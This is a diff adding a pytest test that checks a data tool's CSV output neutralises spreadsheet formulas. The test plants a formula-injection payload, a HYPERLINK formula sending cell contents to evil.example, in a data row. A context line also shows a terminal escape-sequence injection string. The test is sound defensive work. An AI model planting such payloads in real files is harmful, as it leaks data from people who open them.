@@ -92,3 +92,31 @@ def test_cli_error_with_escape_in_scenario_name(capsys):
     assert main(["project", "\x1b]0;owned\x07trend"]) == 2
     err = capsys.readouterr().err
     assert "\x1b" not in err and "\x07" not in err and err.count("\n") == 1
+
+
+def test_cli_csv_output_neutralises_formulas_from_data(capsys, tmp_path):
+    """`data sources --format csv` is often redirected into a .csv file: a data row whose
+    text starts with '=' must not become a formula there either."""
+    import csv
+    import shutil
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[1]
+    data = tmp_path / "data"
+    shutil.copytree(root / "data", data)
+    f = data / "observations" / "grdp.csv"
+    rows = list(csv.reader(io.StringIO(f.read_text(encoding="utf-8"), newline="")))
+    col, ind = rows[0].index("quote"), rows[0].index("indicator")
+    n = next(i for i, r in enumerate(rows) if i and r[ind] == "grdp_current")
+    rows[n][col] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows[n][rows[0].index("quote_kind")] = "sentence"
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\n").writerows(rows)
+    f.write_text(buf.getvalue(), encoding="utf-8")
+    assert main(["data", "sources", "grdp_current", "--format", "csv", "--data-dir",
+                 str(data)]) == 0
+    out = capsys.readouterr().out
+    back = pd.read_csv(io.StringIO(out))
+    quotes = back["quote"].dropna().astype(str)
+    assert any(q.startswith("'=HYPERLINK") for q in quotes)
+    assert not any(q.startswith("=") for q in quotes)
